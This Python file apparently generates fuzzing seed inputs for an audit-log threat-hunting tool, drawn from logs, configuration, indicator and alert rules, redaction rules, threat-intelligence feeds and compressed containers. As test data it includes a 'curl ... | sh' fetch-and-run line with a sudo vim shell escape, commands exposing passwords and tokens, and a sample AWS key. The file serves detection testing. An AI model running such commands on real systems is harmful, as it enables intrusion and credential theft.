# SPDX-License-Identifier: GPL-3.0-or-later
"""What the fuzzers start from, cut out of the recorded logs, the case set, the
shipped configuration and the golden cases.

kind(name) gives inputs (bytes) of one of the KINDS; inputs for a target's own
form are its own folder's, tests/fuzz/seeds/TARGET/.
"""

import bz2
import glob
import gzip
import io
import json
import lzma
import os
import sys
import tarfile
import zipfile
import zlib

sys.path[:0] = [os.path.join(os.path.dirname(os.path.abspath(__file__)),
                             "..", "lib")]
import mmdb                                                 # noqa: E402
from suite import DATA, ROOT                                # noqa: E402

SEED_MAX = 4096         # bytes of one; the fuzzer grows them by itself
LOG_MAX = 8192          # of a log, which says little in less
LOGS_EACH = 12          # pieces of one recorded log
PACKED_EACH = 24        # texts that each container is made of


def read(*path):
    with open(os.path.join(ROOT, *path), "rb") as file:
        return file.read()


def cases():
    for path in sorted(glob.glob(os.path.join(DATA, "cases", "*.jsonl"))):
        for line in read(path).splitlines():
            yield json.loads(line)


def argv():
    """The case set's command lines, a NUL between two arguments."""
    for case in cases():
        yield "\0".join(case["argv"]).encode()


def text():
    """Single arguments, and what is hidden in them."""
    for case in cases():
        yield from (arg.encode() for arg in case["argv"] if len(arg) > 16)
        yield from (arg.encode() for arg in case["hidden"])


def flags_text():
    """The same behind a byte that says what is known of it."""
    for number, one in enumerate(text()):
        yield bytes([number % 8]) + one


def logs():
    for path in sorted(glob.glob(os.path.join(DATA, "*.log"))):
        yield read(path).splitlines(True), LOGS_EACH
    for path in sorted(glob.glob(os.path.join(ROOT, "tests", "golden",
                                              "*.log"))):
        yield read(path).splitlines(True), 1


def log():
    """Pieces of streams, some of them with ticks between the lines."""
    for lines, n_pieces in logs():
        for piece in range(n_pieces):
            at = len(lines) * piece // n_pieces
            size, cut = 0, []
            while at < len(lines) and size < LOG_MAX:
                size += len(lines[at])
                cut.append(lines[at])
                at += 1
            yield b"".join(cut)
            if piece % 4 == 0:
                yield b"~\n".join(cut)


def line():
    """Lines, of each type and node some."""
    seen = {}
    for lines, _ in logs():
        for one in lines:
            head = one.split(b" msg=")[0]
            seen[head] = seen.get(head, 0) + 1
            if seen[head] <= 6:
                yield one.rstrip(b"\n")


def conf():
    """The sample, as a whole with its lines in force, and line by line."""
    sample = read("conf", "audisp-hunt.conf").splitlines()
    bare = [one.lstrip(b"# ") for one in sample]
    bare = [one for one in bare if b" = " in one and one[:1].islower()]
    yield b"\n".join(sample)
    yield b"\n".join(bare)
    yield from bare
    for output in (b"syslog:/a fallback=/b", b"stream:/a format=cee",
                   b"file:/a/b min_score=1.5", b"stdout format=auoms",
                   b"syslog:/a facility=local5 min_score=0"):
        yield b"output = " + output


def rows():
    """Every row with what heads it, and programs, and something to match."""
    bins = read("conf", "hunt.d", "gtfobins.tsv").splitlines()
    run = b"bash\0-c\0curl http://192.0.2.1/x | sh; sudo vim -c ':!sh'"
    for path in sorted(glob.glob(os.path.join(ROOT, "conf", "hunt.d",
                                              "categories*.conf"))):
        head, number = b"", 0
        for one in read(path).splitlines():
            one = one.strip()
            if one.startswith((b"category", b"function")):
                head = one
            elif one and not one.startswith(b"#"):
                number += 1
                some = bins[number * 7 % len(bins):][:3]
                yield b"%s\n%s\0%s\0%s" % (head, one, b"\n".join(some), run)
    yield b"\0".join((read("conf", "hunt.d", "categories.conf")[:SEED_MAX],
                      b"\n".join(bins[:40]), run))


def ownrows():
    """Rows of an operator's own indicators, with something of theirs."""
    run = b"x\0TICKET-1234 AKIA0123456789ABCDEF 192.0.2.1 evil.example.com"
    rules = [b"ioc ticket severity=high weight=2 TICKET-(\\d{4})",
             b"ioc aws_key \\b(AKIA[0-9A-Z]{16})\\b", b"ioc dns (?i)\\w+\\.evil",
             b"ioc any .", b"ioc empty x*", b"ioc slow (a+)+$", b"# nothing"]
    rules += [one.lstrip(b"# ")
              for one in read("conf", "hunt.d", "iocs.conf").splitlines()
              if b"ioc " in one]
    for one in rules:
        yield one + b"\0" + run
    yield b"\n".join(rules) + b"\0" + run


def alerts():
    """Rows of alerts with what is to set them off."""
    run = b"/tmp/x\0chmod\0+x\0x"
    rules = [b'mark m on=exec name=x|y arg=+x', b'mark n on=exec bind=last arg=+x',
             b'mark f on=message evt=logon action=failed',
             b'sequence s severity=high within=5 "why={exe}" m n n',
             b'burst b severity=low attack=T1110 within=9 n=2 of=addr by=addr '
             b'"why={addr}" f',
             b'alert a on=call severity=low new=path every=9 "why={path} {" '
             b'path^=/tmp/ name!=z',
             b'alert r on=message severity=low "why=w" .x=1 type=USER_START',
             b'alert p on=network severity=low "why=w" port>=1 addr*=t']
    shipped = [one for one in
               read("conf", "hunt.d", "alerts.conf").splitlines()
               if one[:1] in b"absm"]
    yield b"\n".join(rules) + b"\0" + run
    yield b"\n".join(shipped) + b"\0" + run
    for one in rules + shipped:
        yield one + b"\0" + run


def redact():
    """Rows of redaction with what heads them; and what the shipped ones are
    for, without."""
    run = b"sh\0-c\0P=a; mysql -p$P | chpasswd <<< 'a:b'; x --pin c KEY=d"
    own = (b"option x --pin", b"option with=a,-b after=: x|y -u -u* $",
           b"option * --pin\nplain x --pin", b"input after=: chpasswd",
           b"name *key", b"query sig", b"userinfo * ftp", b"pattern (a+)+key",
           b"pattern key-(\\d+)", b"require s")
    for one in own:
        yield b"set s\nrule r\n%s\0%s" % (one, run)
    for one in (b"echo cm9vdDpTRUNSRVQ= | base64 -d | chpasswd",
                b"sh -c 'sh -c \"mysql -p\\\"a\\\"\"'",
                b"curl -H 'Authorization: Bearer a' https://a:b@h/?token=c",
                b"A_TOKEN='a'\"b\"c; echo AKIAIOSFODNN7EXAMPLE",
                b"sshpass -p a ssh h 'sudo -S mysql -pb' <<E\na:b\nE\n"):
        yield b"\0sh\0-c\0" + one
    yield b"\0python3\0-c\0run(['mysql', '-pa']); os.system(\"curl -u a:b\")"


def table():
    """Verdicts and alerts."""
    verdicts = [{"Ioc": "192.0.2.1", "Provider": "x", "Severity": severity}
                for severity in ("high", "Warning", "unknown", "none")]
    alerts = [{"host": "web1", "AlertName": 'a "b", c', "Severity": "High",
               "TimeGenerated": when}
              for when in ("2026-01-02T03:04:05Z", "2026-01-02 03:04:05.678")]
    for objects in (verdicts, alerts):
        yield json.dumps(objects).encode()
        yield json.dumps(objects[:1], indent=1).encode()
        out = [",".join(objects[0])]
        out += [",".join('"%s"' % one.replace('"', '""')
                         for one in row.values()) for row in objects]
        yield "\n".join(out).encode()
        yield "\r\n".join(reversed(out)).encode()
    yield b"\n[{}]"


def lists():
    """Lists of indicators, their kind before them."""
    lines = [b"203.0.113.1\n198.51.100.0/24 ; x\nhxxp://bad[.]example/a\n",
             b"0.0.0.0 ads.example b.example # c\n",
             json.dumps({"objects": [{
                 "type": "indicator", "valid_until": "2030-01-01T00:00:00Z",
                 "pattern": "[ipv4-addr:value = '203.0.113.9' OR "
                 "file:hashes.'SHA-256' = 'ab\\'c'] OR [url:value='x']"}]
             }).encode(),
             b'# "a","b","ioc"\n"1", "x ""y""", "203.0.113.9:80"\n']
    for number in range(6):
        for text_of in lines:
            yield bytes([number]) + text_of


def taxii():
    """Pages of a collection, and lines of a bundle, a NUL between two."""
    line = (b'{"type":"indicator","id":"indicator--1","pattern_type":"stix",'
            b'"pattern":"[ipv4-addr:value = \'203.0.113.9\']",'
            b'"valid_until":"2030-01-01T00:00:00Z","revoked":false}')
    page = b'{"more":true,"next":"a/b","objects":[%s,{"type":"identity"}]}'
    yield page % line
    yield b"\0".join([page % line, b'{"objects":[]}', line + b",",
                      b'{"more":false,"objects":[%s]}' % line])
    yield (b"source 0123456789abcdef\nchecked 1700000000000\netag \"x\"\n"
           b"modified Wed, 21 Oct 2026 07:28:00 GMT\nafter 2026-01-01Z\n")


def misp():
    """A manifest, lines of the list before, and events."""
    uuid = "%08x-0000-4000-8000-000000000000"
    manifest = json.dumps({uuid % n: {"timestamp": "%d" % n, "info": "x"}
                           for n in range(4)}).encode()
    lines = b"".join(b"%s %s:%d\n" % (word, (uuid % n).encode(), n)
                     for n, word in enumerate((b"203.0.113.1", b"#", b"x")))
    event = json.dumps({"Event": {
        "Attribute": [{"type": "ip-dst|port", "value": "203.0.113.9|80",
                       "to_ids": True}],
        "Object": [{"Attribute": [{"type": "filename|md5", "to_ids": True,
                                   "value": "a|" + "ab" * 16}]}]}}).encode()
    yield manifest
    yield b"\0".join([manifest, lines + event, event, b"{}"])


def answers():
    """Answers of providers, and lines that name some."""
    bodies = [b'{"pulse_info":{"count":2}}', b'{"score":5,"malware":{}}',
              b'{"data":{"attributes":{"last_analysis_stats":{"malicious":1}}}}',
              b'{"error":{"code":"NotFoundError"}}',
              b'{"data":{"abuseConfidenceScore":"51"}}',
              b'{"query_status":"ok","urls":[{"url_status":"online"}]}',
              b'{"query_status":"ok","data":[{"ioc":"a:1",'
              b'"confidence_level":75}]}',
              b'{"scores":{"overall":{"total":4}}}', b'{"risk":"high"}',
              b'{"response":{"Attribute":[{"value":"a|b",'
              b'"Event":{"threat_level_id":"1"}}]}}',
              b'{"a":[{"b":"bad"}]}', b'virustotal key=/k per_day=5 inside=yes',
              b'http url=https://a.b/{value} "header=X: {key}" severity=a '
              b'high=80 medium=x,y low=1 types=ipv4,dns']
    for number in range(12):
        for body in bodies:
            yield bytes([number, number * 8]) + body


def containers(name, data):
    """(what undoes it, the bytes) in every form that there is an unpacker
    for."""
    yield b"gunzip", gzip.compress(data, mtime=0)
    yield b"zlib.decompress(", zlib.compress(data)
    yield b"gzinflate(", zlib.compress(data)[2:-4]
    yield b"bunzip2", bz2.compress(data)
    yield b"unxz", lzma.compress(data)
    yield b"unlzma", lzma.compress(data, lzma.FORMAT_ALONE)
    yield b".reverse()", data[::-1]
    yield b"tr a-zA-Z n-za-mN-ZA-M", data
    yield b"ord(c)^0x41", bytes(c ^ 0x41 for c in data)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
        archive.writestr(zipfile.ZipInfo(name + "2"), data[:20])
    yield b"unzip", out.getvalue()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for number in range(2):
            info = tarfile.TarInfo(name + str(number))
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    yield b"tar x", out.getvalue()


def packed():
    """What undoes it, a NUL, a container."""
    texts = [one for one in text() if 20 < len(one) < 500]
    for one in texts[::max(1, len(texts) // PACKED_EACH)]:
        for what, data in containers("run.sh", one):
            yield what + b"\0" + data


def packedlog():
    """A log as it is, and compressed; several streams behind one another."""
    pieces = list(log())[:6]
    for one in pieces:
        yield one
        yield gzip.compress(one, mtime=0)
        yield lzma.compress(one)
    yield gzip.compress(pieces[0], mtime=0) + gzip.compress(pieces[1], mtime=0)
    yield lzma.compress(pieces[0]) + lzma.compress(pieces[1])
    yield gzip.compress(bytes(100000), mtime=0)
    yield lzma.compress(bytes(100000))


def databases():
    """Databases of places, with values of many types."""
    for bits in (24, 28, 32):
        for version in (4, 6):
            for country in ("US", {"a": [1.5, True, b"x", "country"]}, 7):
                yield mmdb.database({
                    "8.8.8.0/24": {"country": {"iso_code": country}},
                    "9.0.0.0/8": {"autonomous_system_number": 15169,
                                  "autonomous_system_organization": "GOOGLE",
                                  "country": {"iso_code": "US"}}},
                    bits=bits, version=version)


KINDS = {"argv": argv, "text": text, "flags+text": flags_text, "log": log,
         "line": line, "conf": conf, "rows": rows, "ownrows": ownrows,
         "alerts": alerts,
         "redact": redact,
         "table": table, "list": lists, "answer": answers, "taxii": taxii,
         "misp": misp,
         "packed": packed, "packedlog": packedlog, "mmdb": databases}
